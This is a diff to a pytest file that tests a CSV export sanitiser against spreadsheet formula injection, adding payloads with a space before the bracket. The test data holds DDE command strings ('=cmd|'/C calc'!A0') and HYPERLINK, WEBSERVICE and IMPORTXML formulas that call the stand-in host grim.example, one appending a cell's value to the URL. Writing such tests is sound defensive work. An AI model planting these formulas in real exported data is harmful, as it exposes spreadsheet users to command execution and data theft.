@@ -62,7 +62,13 @@ def test_what_looks_harmless_is_left_as_it_is():
     assert (row["text"], row["position"]) == ("1 + 1 = 2, - he said @noon", "1")
 
 
-@pytest.mark.parametrize("call", ['=HYPERLINK("http://grim.example/?"&A1)', "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "＝SUM(1)"])
+BLANKS = ('=HYPERLINK ("http://grim.example/")', "=1+SUM\u00a0 (A1)", '-Webservice ("http://grim.example/")', '+2+IMPORTXML ("http://grim.example/")')
+"""As some take it, a blank may stand before the bracket."""
+
+
+@pytest.mark.parametrize(
+    "call", ['=HYPERLINK("http://grim.example/?"&A1)', "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "＝SUM(1)", *BLANKS]
+)
 @pytest.mark.parametrize(("before", "between"), [(";", ""), (";", " "), (";", '"'), ("\n", ""), ("\r\n", ""), ("\t", ""), ("yes;no;", "")])
 def test_no_part_of_a_cell_calls_anything_where_semicolons_part_cells(before: str, between: str, call: str):
     """As in a German Excel, to which the commas of the table are letters, and its quotation marks, too."""
@@ -72,7 +78,15 @@ def test_no_part_of_a_cell_calls_anything_where_semicolons_part_cells(before: st
 
 
 @pytest.mark.parametrize(
-    "text", ["Fine ;-)", "yes;=no", "A list:\n- one (of two)\n- two;\n+1", "Hello\n@Kees (and Jan)", "f(x)=1; x = g(y)", "So:\n=> so (they say)"]
+    "text",
+    [
+        "Fine ;-)",
+        "yes;=no",
+        "A list:\n- one (of two)\n- two;\n+1 (or so)\n- image: two (of them)",
+        "Hello\n@Kees (and Jan)",
+        "f(x)=1; x = g(y)",
+        "So:\n=> so (they say)",
+    ],
 )
 def test_smileys_and_lists_are_left_as_they_are(text: str):
     """What calls nothing is no more than an error to a spreadsheet."""
